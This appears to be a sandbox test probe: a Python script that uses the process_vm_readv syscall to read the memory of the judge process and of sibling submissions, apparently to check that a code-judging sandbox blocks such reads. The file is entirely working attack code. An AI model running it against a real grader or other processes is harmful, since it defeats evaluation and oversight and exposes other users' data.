# attack: Reads the judge's and the other submission's memory with process_vm_readv.
# hurts: Shows what the judge holds.
# ends: returns
import ctypes

from _raw import call


def attack(target):
    own = [("judge_pid", "address", "length"), ("starter_pid", "address", "length")]
    others = [(pid, "sibling_address", "sibling_length") for pid in ("sibling_pid", "sibling_outer_pid")]
    return [read(target[pid], target[address], target[length]) for pid, address, length in own + others]


def read(pid, address, length):
    buffer = ctypes.create_string_buffer(length)
    ours = (ctypes.c_uint64 * 2)(ctypes.addressof(buffer), length)
    theirs = (ctypes.c_uint64 * 2)(address, length)
    _, error = call("process_vm_readv", pid, ours, 1, theirs, 1, 0)
    return error or buffer.raw
